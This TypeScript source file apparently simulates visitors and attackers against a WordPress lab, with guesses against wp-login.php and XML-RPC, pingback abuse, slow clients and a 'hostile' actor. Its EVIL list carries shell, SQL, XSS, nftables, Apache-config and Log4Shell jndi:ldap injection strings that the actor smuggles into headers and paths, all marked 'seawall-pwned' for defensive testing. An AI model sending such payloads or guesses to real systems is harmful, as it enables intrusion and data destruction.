// What the lab's visitors and attackers do, one at a time: a visit, a guess, a pingback. How often is said elsewhere.
import { ADMIN, SERVER, THIRD } from '../addresses.ts';
import { dawdle } from './dawdle.ts';
import { type Answer, exchange, type RequestPlan } from './exchange.ts';

/** Where a call comes from and goes to; `n` counts the calls of one stream from 0. */
export interface Call {
  readonly source: string;
  readonly target: string;
  readonly n: number;
  /** Address of a proxy that forwards it, and says so in X-Forwarded-For. */
  readonly via?: string;
}

export const ACTORS = {
  /** A person with a browser: a page, then its style sheets, scripts and pictures, some at once. */
  browser: async (call) => {
    const page = PAGES[call.n % PAGES.length] ?? '/';
    const first = await get(call, page, BROWSER);
    const parts = first.status === 200 ? partsOf(first.body).slice(0, 6) : [];
    const referer = `http://${SERVER.site}${page}`;
    return [first, ...(await Promise.all(parts.map((path) => get(call, path, { ...BROWSER, Referer: referer }))))];
  },

  /** WordPress's own phone app, which is a good client of XML-RPC. */
  'phone-app': async (call) => [
    await post(call, '/xmlrpc.php', methodCall('wp.getUsersBlogs', [ADMIN.user, ADMIN.password]), {
      ...XML,
      'User-Agent': 'wp-android/22.4',
    }),
  ],

  /** As in the founding incident: each makes the server fetch a page from a third party. */
  pingback: async (call) => [
    await post({ ...call, version: '1.0' }, '/xmlrpc.php', pingback(call.n), {
      ...XML,
      'User-Agent': 'Mozilla/4.0 (compatible: MSIE 7.0; Windows NT 6.0)',
    }),
  ],

  'xmlrpc-guess': async (call) => [
    await post(call, '/xmlrpc.php', methodCall('wp.getUsersBlogs', ['admin', `letmein${call.n}`]), {
      ...XML,
      'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0',
    }),
  ],

  'login-guess': async (call) => [
    await post(call, '/wp-login.php', `log=admin&pwd=letmein${call.n}&wp-submit=Log+In&testcookie=1`, {
      'Content-Type': 'application/x-www-form-urlencoded',
      Cookie: 'wordpress_test_cookie=WP%20Cookie%20check',
      'User-Agent': 'Mozilla/5.0 (X11; Linux x64_64; rv:91.0) Gecko/20100101 Firefox/91.0',
    }),
  ],

  search: async (call) => [
    await get(call, `/?s=${WORDS[call.n % WORDS.length]}+${(call.n * 7919) % 10_007}`, {
      'User-Agent': 'Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 Chrome/87.0.4280.88 Safari/537.36',
    }),
  ],
  /** A reader whom another site sent to one post. */
  'crowd-reader': async (call) => {
    const last = Number(call.source.split('.').at(-1));
    const own = { ...BROWSER, 'User-Agent': AGENTS[last % AGENTS.length] ?? '' };
    const first = await get(call, '/?p=9', { ...own, Referer: 'https://news.example/today' });
    const parts = first.status === 200 ? partsOf(first.body).slice(0, 6) : [];
    const referer = `http://${SERVER.site}/?p=9`;
    return [first, ...(await Promise.all(parts.map((path) => get(call, path, { ...own, Referer: referer }))))];
  },

  /** Writes a comment, so that the site has to write to its database. */
  commenter: async (call) => [
    await post(
      call,
      '/wp-comments-post.php',
      new URLSearchParams({
        comment: `Tried it, number ${call.n}. ${'So good! '.repeat(400)}`,
        author: `Reader ${call.n}`,
        email: `reader${call.n}@example.org`,
        comment_post_ID: '5',
        comment_parent: '0',
      }).toString(),
      { ...BROWSER, 'Content-Type': 'application/x-www-form-urlencoded' },
    ),
  ],

  /** As `pingback`; and whatever of it ends in a log or a report wants to be run, drawn or configured there. */
  hostile: async (call) => {
    const evil = EVIL[call.n % EVIL.length] ?? '';
    const words = { ...XML, 'User-Agent': `Agent ${evil}`, Referer: `http://evil.example/${evil}` };
    const body = methodCall('pingback.ping', [`http://${THIRD.silent}/${evil}`, `http://${SERVER.site}/?p=5`]);
    return await Promise.all([
      post({ ...call, version: '1.0' }, '/xmlrpc.php', body, words),
      post({ ...call, version: '1.0' }, `/xmlrpc.php?${evil.replaceAll(' ', '%20')}`, body, words),
      get(call, `/${evil}`, words),
      exchange({
        ...wayOf(call),
        host: `www.example.org${evil}`,
        path: `/${encodeURIComponent(evil)}`,
        headers: words,
      }),
    ]);
  },

  /** Holds a connection with a request that never gets to its end. */
  'slow-client': async (call) => [await dawdle(call)],
} as const satisfies Record<string, (call: Call) => Promise<Answer[]>>;

export type ActorName = keyof typeof ACTORS;

/** Each would leave a file, a rule or a mark named `seawall-pwned`. */
const EVIL = [
  '$(touch$IFS/tmp/seawall-pwned)`touch /tmp/seawall-pwned`;touch$IFS/tmp/seawall-pwned|sh',
  '" }\\n; } add table inet seawall-pwned; #',
  "'; DROP TABLE wp_posts; -- seawall-pwned",
  '<script>alert("seawall-pwned")</script>&amp;<img src=x onerror=alert(1)>',
  '\u001b]0;seawall-pwned\u0007\u001b[2J\u001b[31mseawall-pwned\u009b31m\u202e',
  '</VirtualHost> Include /etc/passwd # seawall-pwned',
  '%0a%0dRequire%20all%20granted%00\u0024{jndi:ldap://x/seawall-pwned}',
  '{"cause":"none","seawall-pwned":"\\',
];

const XML = { 'Content-Type': 'text/xml' };
const BROWSER = {
  'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  Accept: 'text/html,application/xhtml+xml,*/*;q=0.8',
  'Accept-Language': 'en-GB,en;q=0.7',
};
const AGENTS = [
  'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15',
];
const PAGES = ['/', '/?p=5', '/?p=7', '/', '/?p=9', '/?cat=1', '/?p=11'];
const WORDS = ['bread', 'honey', 'oven', 'autumn', 'wheat', 'plum', 'river'];

function get(call: Call, path: string, headers: Readonly<Record<string, string>>): Promise<Answer> {
  return exchange({ ...wayOf(call), host: SERVER.site, path, headers: { ...headers, ...forwardedFor(call) } });
}

function post(
  call: Call & Pick<RequestPlan, 'version'>,
  path: string,
  body: string,
  headers: Readonly<Record<string, string>>,
): Promise<Answer> {
  const { version = '1.1' } = call;
  const all = { ...headers, ...forwardedFor(call) };
  return exchange({ ...wayOf(call), host: SERVER.site, method: 'POST', path, body, headers: all, version });
}

function wayOf({ source, target, via }: Call): Pick<RequestPlan, 'source' | 'target'> {
  return { source: via ?? source, target };
}

function forwardedFor({ source, via }: Call): Record<string, string> {
  return via === undefined ? {} : { 'X-Forwarded-For': source };
}

/** Style sheets, scripts and pictures of this host that a page names, each once. */
function partsOf(html: string): string[] {
  const found = html.matchAll(
    /(?:href|src)=['"]http:\/\/www\.example\.org(\/[^'"]+\.(?:css|js|png|jpg|webp|svg)[^'"]*)/g,
  );
  return [...new Set([...found].map(([, path = '/']) => path.replaceAll('&#038;', '&')))];
}

function methodCall(name: string, texts: readonly string[]): string {
  const parameters = texts.map((text) => `<param><value><string>${text}</string></value></param>`).join('');
  return `<?xml version="1.0"?><methodCall><methodName>${name}</methodName><params>${parameters}</params></methodCall>`;
}

function pingback(n: number): string {
  return methodCall('pingback.ping', [`http://${THIRD.silent}/${n}`, `http://${SERVER.site}/?p=${4 + (n % 8)}`]);
}
